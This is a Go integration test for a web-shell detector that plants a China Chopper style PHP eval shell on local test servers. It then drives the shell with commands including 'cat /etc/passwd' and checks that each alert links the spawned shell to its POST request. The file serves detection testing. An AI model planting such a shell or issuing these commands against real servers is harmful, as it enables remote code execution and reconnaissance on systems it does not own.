//go:build linux

package tests

import (
	"bufio"
	"bytes"
	"cmp"
	"encoding/json"
	"fmt"
	"io"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"webshellbeat/detection"
)

// postAttack is one command run through a POST web shell.
type postAttack struct {
	site liveSite
	cmd  string
}

// TestLivePostShell drives a China Chopper style web shell on each server:
// the command is PHP code in the POST body (`@eval($_POST['z'])`), which no
// access log records, so only the working directory of its shell ties it to
// its request. The site's other pages are requested in the same seconds,
// so that time alone cannot. Each shell's alert must carry the POST that
// ran it, from the live beat and from a hunt over what a real auditd wrote
// of the same attack and the access-log lines of the test.
func TestLivePostShell(t *testing.T) {
	fpm := liveReady(t)
	if out, _ := exec.Command("pgrep", "-x", "auditd").Output(); len(bytes.TrimSpace(out)) > 0 {
		t.Skipf("auditd already runs (pid %s): the test starts its own", bytes.TrimSpace(out))
	}
	// Each shell in a folder of its own (upload handlers often make one per
	// upload): the two sites' shells are then told apart by their folders in
	// the hunt too, where the audit log does not name the web server above a
	// shell (its workers never exec'd since auditd started).
	paths := map[string]string{}
	for _, s := range liveSites {
		nonce := fmt.Sprintf("wsbpost%s%d", s.server, time.Now().UnixNano())
		_, paths[s.server] = plantShellIn(t, s, nonce, "image.php", "<?php @eval($_POST['z']); ?>\n", 0o755)
	}
	startServers(t, fpm)
	dir := t.TempDir()
	auditDir := filepath.Join(dir, "auditd")
	startAuditd(t, auditDir, map[string]string{}, filepath.Join(auditDir, "audit.log"))
	// Where the access logs are now: the hunt reads what the test adds.
	offsets := map[string]int64{}
	for _, s := range liveSites {
		if st, err := os.Stat(s.log); err == nil {
			offsets[s.server] = st.Size()
		}
	}
	// The beat reads the multicast group beside auditd; its rules make
	// auditd log the same execs.
	stop := startLiveBeat(t, dir, liveSitesInputs()+detectAll)

	attacks := runPostAttacks(t, paths)
	docs := waitPostLinks(t, dir, attacks, paths)
	checkPostLinks(t, "beat", docs, attacks, paths, true)
	checkPostOrder(t, "beat", docs, attacks, paths)
	stop()

	// The hunt: the same events from files, read in time order.
	huntFiles := []string{filepath.Join(auditDir, "audit.log")}
	for _, s := range liveSites {
		f := filepath.Join(dir, s.server, "access.log") // the folder names the server
		copyFrom(t, s.log, offsets[s.server], f)
		huntFiles = append(huntFiles, f)
	}
	out, err := exec.Command(binary, append([]string{"hunt", "--format", "ndjson"}, huntFiles...)...).Output()
	if err != nil {
		t.Fatalf("hunt: %v", err)
	}
	var hunted []map[string]any
	for _, line := range bytes.Split(bytes.TrimSpace(out), []byte("\n")) {
		var d map[string]any
		if err := json.Unmarshal(line, &d); err != nil {
			t.Fatalf("hunt output: %v: %s", err, line)
		}
		hunted = append(hunted, d)
	}
	checkPostLinks(t, "hunt", hunted, attacks, paths, false)
	checkPostOrder(t, "hunt", hunted, attacks, paths)
}

// runPostAttacks sends three commands to each site's POST shell while
// benign pages of both sites are requested every 50 ms.
func runPostAttacks(t *testing.T, paths map[string]string) []postAttack {
	t.Helper()
	stopNoise := make(chan struct{})
	var wg sync.WaitGroup
	for _, s := range liveSites {
		wg.Add(1)
		go func() {
			defer wg.Done()
			base := fmt.Sprintf("http://127.0.0.1:%d", s.port)
			for {
				select {
				case <-stopNoise:
					return
				case <-time.After(50 * time.Millisecond):
				}
				_ = exec.Command("curl", "-s", "-o", "/dev/null", base+"/index.php").Run()
				_ = exec.Command("curl", "-s", "-o", "/dev/null", "-d", "user=bob&password=hunter2", base+"/login.php").Run()
			}
		}()
	}
	defer func() { close(stopNoise); wg.Wait() }()
	var attacks []postAttack
	for _, s := range liveSites {
		for i, c := range []string{"id", "uname -a", "cat /etc/passwd"} {
			cmd := fmt.Sprintf("%s; echo wsbpost%d", c, i)
			attacks = append(attacks, postAttack{s, cmd})
			body := "z=" + url.QueryEscape(fmt.Sprintf("echo shell_exec('%s');", cmd))
			out := curl(t, "--data", body, fmt.Sprintf("http://127.0.0.1:%d%s", s.port, paths[s.server]))
			if !strings.Contains(out, fmt.Sprintf("wsbpost%d", i)) {
				t.Fatalf("%s: the shell did not run %q: %q", s.server, cmd, out)
			}
			time.Sleep(300 * time.Millisecond)
		}
	}
	time.Sleep(time.Second)
	return attacks
}

// postLinked is the alert of a's shell that carries the POST for its
// shell, or nil. With named, the web server must be named in its ancestry
// (the live input reads it from /proc; a hunt of the audit log infers it).
func postLinked(docs []map[string]any, a postAttack, paths map[string]string, named bool) map[string]any {
	for _, d := range docs {
		if postShell(d, a, named) && detection.LookupString(d, "webshell.request.url.original") == paths[a.site.server] &&
			detection.LookupString(d, "webshell.request.http.request.method") == "POST" {
			return d
		}
	}
	return nil
}

// waitPostLinks reads the beat's output until every attack's alert carries
// its request, or for 30 s.
func waitPostLinks(t *testing.T, dir string, attacks []postAttack, paths map[string]string) []map[string]any {
	for deadline := time.Now().Add(30 * time.Second); ; time.Sleep(250 * time.Millisecond) {
		docs := readDocs(t, dir)
		missing := 0
		for _, a := range attacks {
			if postLinked(docs, a, paths, true) == nil {
				missing++
			}
		}
		if missing == 0 || time.Now().After(deadline) {
			return docs
		}
	}
}

// postShell says d is the alert of a's shell (see postLinked for named).
func postShell(d map[string]any, a postAttack, named bool) bool {
	if named {
		return isShellAlert(d, a.cmd, a.site.parent, time.Time{})
	}
	return detection.LookupString(d, "event.kind") == "alert" && detection.LookupString(d, "process.command_line") == "sh -c "+a.cmd
}

func checkPostLinks(t *testing.T, from string, docs []map[string]any, attacks []postAttack, paths map[string]string, named bool) {
	t.Helper()
	for _, a := range attacks {
		if d := postLinked(docs, a, paths, named); d != nil {
			t.Logf("%s: %s %q: request %s %s, evidence %v", from, a.site.server, a.cmd, detection.LookupString(d, "webshell.request.http.request.method"),
				detection.LookupString(d, "webshell.request.url.original"), lookup(d, "webshell.request.evidence"))
			continue
		}
		t.Errorf("%s: %s: no alert of `sh -c %s` linked to POST %s", from, a.site.server, a.cmd, paths[a.site.server])
		for _, d := range docs {
			if postShell(d, a, named) {
				t.Logf("  its alert: request %q evidence %v cwd %q", detection.LookupString(d, "webshell.request.url.original"),
					lookup(d, "webshell.request.evidence"), detection.LookupString(d, "process.working_directory"))
			}
		}
	}
}

// checkPostOrder checks that the POSTs to each site's shell, in the order
// they were logged, list the shells of the commands in the order they were
// sent, one each: no POST got another's shell, and none had one taken away.
// A request's shells are those any of its copies lists (the detector
// publishes an updated copy when it links one). The log's order is the
// lines' offsets (log.offset) where the documents have them: the beat's
// output keeps neither the log's order nor a document's copies' (a POST's
// first document came after the next two POSTs', and an updated copy
// before its original). A hunt writes in time order and keeps each file's
// order within a second.
func checkPostOrder(t *testing.T, from string, docs []map[string]any, attacks []postAttack, paths map[string]string) {
	t.Helper()
	for _, s := range liveSites {
		var order []string              // event.original of each POST, as first seen
		listed := map[string][]string{} // the shells its copies list
		offset := map[string]float64{}  // its log.offset, when the document has one
		for _, d := range docs {
			if detection.LookupString(d, "url.original") != paths[s.server] {
				continue
			}
			line := detection.LookupString(d, "event.original")
			if _, seen := listed[line]; !seen {
				order = append(order, line)
				listed[line] = nil
			}
			for _, sh := range detection.LookupStrings(d, "webshell.processes.command_line") {
				if !slices.Contains(listed[line], sh) {
					listed[line] = append(listed[line], sh)
				}
			}
			if off, ok := lookup(d, "log.offset").(float64); ok {
				offset[line] = off
			}
		}
		if len(offset) == len(order) {
			slices.SortFunc(order, func(a, b string) int { return cmp.Compare(offset[a], offset[b]) })
		}
		var want, got []string
		for _, a := range attacks {
			if a.site.server == s.server {
				want = append(want, "sh -c "+a.cmd)
			}
		}
		for _, line := range order {
			got = append(got, strings.Join(listed[line], " + "))
		}
		if !slices.Equal(got, want) {
			t.Errorf("%s: %s: the POSTs, in log order, list the shells %q, want %q", from, s.server, got, want)
		}
	}
}

// copyFrom copies src from offset on to dst.
func copyFrom(t *testing.T, src string, offset int64, dst string) {
	t.Helper()
	in, err := os.Open(src)
	if err != nil {
		t.Fatal(err)
	}
	defer in.Close()
	if _, err := in.Seek(offset, io.SeekStart); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(filepath.Dir(dst), 0o755); err != nil {
		t.Fatal(err)
	}
	out, err := os.Create(dst)
	if err != nil {
		t.Fatal(err)
	}
	defer out.Close()
	if _, err := io.Copy(out, bufio.NewReader(in)); err != nil {
		t.Fatal(err)
	}
}
